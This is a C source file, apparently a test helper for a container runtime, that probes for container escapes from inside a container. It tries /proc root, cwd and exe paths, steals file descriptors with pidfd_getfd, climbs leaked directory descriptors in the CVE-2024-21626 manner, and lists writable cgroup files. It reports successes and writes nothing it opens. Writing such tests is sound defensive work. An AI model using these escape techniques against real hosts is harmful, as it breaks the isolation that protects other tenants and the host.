/* The attacker of ctr's shared-pid-namespace tests: run (through nsenter)
 * in the namespaces of a container X, as X's root with what root in a
 * privileged container keeps (CAP_SYS_PTRACE) but without CAP_SYS_ADMIN and
 * CAP_DAC_READ_SEARCH, it looks at every other process it can see in /proc
 * and tries to reach the host through it:
 *
 *   root     open /proc/P/root/<MARKER>         (the host's root)
 *   cwd      open /proc/P/cwd/<MARKER>
 *   exe      open /proc/P/exe for writing        (rewrite the host binary)
 *   fd       each /proc/P/fd/N and pidfd_getfd(P, N): a directory outside
 *            our root is climbed with ".." to the host's root, then MARKER
 *
 *   escape-scan MARKER     MARKER: an absolute host path the test created
 *   escape-scan --cgroup   list every cgroup file under /sys/fs/cgroup that
 *                          opens for writing ("WRITABLE <path>"), writing nothing
 *
 * Prints "SEEN <pid> <comm>" for every process other than itself, then one
 * "ESCAPE <how> <pid> ..." line per success and "DONE" at the end. It never
 * writes anything it opens. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char *marker;

/* Become root of X as the attack assumes: no CAP_SYS_ADMIN, no
 * CAP_DAC_READ_SEARCH, CAP_SYS_PTRACE kept. */
static void drop_caps(void)
{
	struct __user_cap_header_struct hdr = {.version = _LINUX_CAPABILITY_VERSION_3};
	struct __user_cap_data_struct data[2];
	int drop[] = {CAP_SYS_ADMIN, CAP_DAC_READ_SEARCH};

	if (syscall(SYS_capget, &hdr, data) < 0) {
		perror("capget");
		exit(2);
	}
	for (size_t i = 0; i < sizeof(drop) / sizeof(drop[0]); i++) {
		(void)prctl(PR_CAPBSET_DROP, drop[i], 0, 0, 0);
		data[drop[i] / 32].effective &= ~(1u << (drop[i] % 32));
		data[drop[i] / 32].permitted &= ~(1u << (drop[i] % 32));
		data[drop[i] / 32].inheritable &= ~(1u << (drop[i] % 32));
	}
	if (syscall(SYS_capset, &hdr, data) < 0) {
		perror("capset");
		exit(2);
	}
}

static void try_open(const char *how, int pid, const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		printf("ESCAPE %s %d %s\n", how, pid, path);
		(void)close(fd);
	}
}

/* A directory fd: climb to the root of its mount namespace and look for the
 * marker there (the CVE-2024-21626 way out of a leaked host directory). */
static void try_dirfd(const char *how, int pid, int dirfd)
{
	char path[4096];
	int fd, up = dirfd;

	for (int i = 0; i < 64; i++) {
		int next = openat(up, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
		if (up != dirfd)
			(void)close(up);
		if (next < 0)
			return;
		up = next;
	}
	(void)snprintf(path, sizeof(path), "%s", marker + 1);
	fd = openat(up, path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		printf("ESCAPE %s %d via a directory fd\n", how, pid);
		(void)close(fd);
	}
	(void)close(up);
}

static void scan_fds(int pid)
{
	char dir[64], path[512];
	struct dirent *e;
	DIR *d;
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	(void)snprintf(dir, sizeof(dir), "/proc/%d/fd", pid);
	d = opendir(dir);
	while (d && (e = readdir(d))) {
		struct stat st;
		int n = atoi(e->d_name), fd;
		if (e->d_name[0] == '.')
			continue;
		(void)snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd >= 0 && fstat(fd, &st) == 0 && S_ISDIR(st.st_mode))
			try_dirfd("fd", pid, fd);
		if (fd >= 0)
			(void)close(fd);
		fd = pidfd >= 0 ? (int)syscall(SYS_pidfd_getfd, pidfd, n, 0) : -1;
		if (fd >= 0) {
			if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode))
				try_dirfd("pidfd_getfd", pid, fd);
			printf("STOLE %d fd %d\n", pid, n);
			(void)close(fd);
		}
	}
	if (d)
		(void)closedir(d);
	if (pidfd >= 0)
		(void)close(pidfd);
}

static void scan(int pid)
{
	char path[4096], comm[64] = "?";
	int fd;
	FILE *f;

	(void)snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	f = fopen(path, "re");
	if (f) {
		if (fgets(comm, sizeof(comm), f))
			comm[strcspn(comm, "\n")] = '\0';
		(void)fclose(f);
	}
	printf("SEEN %d %s\n", pid, comm);
	(void)snprintf(path, sizeof(path), "/proc/%d/root%s", pid, marker);
	try_open("root", pid, path);
	(void)snprintf(path, sizeof(path), "/proc/%d/cwd%s", pid, marker);
	try_open("cwd", pid, path);
	(void)snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd >= 0) {
		printf("ESCAPE exe %d %s opened for writing\n", pid, path);
		(void)close(fd);
	}
	scan_fds(pid);
}

static void walk_writable(const char *dir, int depth)
{
	struct dirent *e;
	DIR *d = opendir(dir);

	while (d && depth < 32 && (e = readdir(d))) {
		char path[4096];
		int fd;
		if (e->d_name[0] == '.')
			continue;
		(void)snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		if (e->d_type == DT_DIR) {
			walk_writable(path, depth + 1);
			continue;
		}
		if (e->d_type != DT_REG)
			continue;
		fd = open(path, O_WRONLY | O_CLOEXEC | O_NONBLOCK);
		if (fd >= 0) {
			printf("WRITABLE %s\n", path);
			(void)close(fd);
		}
	}
	if (d)
		(void)closedir(d);
}

int main(int argc, char **argv)
{
	struct dirent *e;
	DIR *d;

	if (argc == 2 && strcmp(argv[1], "--cgroup") == 0) {
		walk_writable("/sys/fs/cgroup", 0);
		printf("DONE\n");
		return 0;
	}
	if (argc != 2 || argv[1][0] != '/') {
		fprintf(stderr, "usage: escape-scan /HOST/MARKER\n");
		return 2;
	}
	marker = argv[1];
	/* Our own fds beyond stdio: whatever we were started with (a leak into
	 * the container's init or an attached process). */
	for (int fd = 3; fd < 1024; fd++) {
		char link[64], target[4096];
		struct stat st;
		ssize_t n;
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		(void)snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
		n = readlink(link, target, sizeof(target) - 1);
		target[n > 0 ? n : 0] = '\0';
		printf("LEAKED %d %s\n", fd, target);
		if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode))
			try_dirfd("leaked-fd", getpid(), fd);
	}
	drop_caps();
	d = opendir("/proc");
	if (!d) {
		perror("/proc");
		return 2;
	}
	while ((e = readdir(d))) {
		int pid = atoi(e->d_name);
		if (pid > 0 && pid != getpid())
			scan(pid);
	}
	(void)closedir(d);
	printf("DONE\n");
	return 0;
}
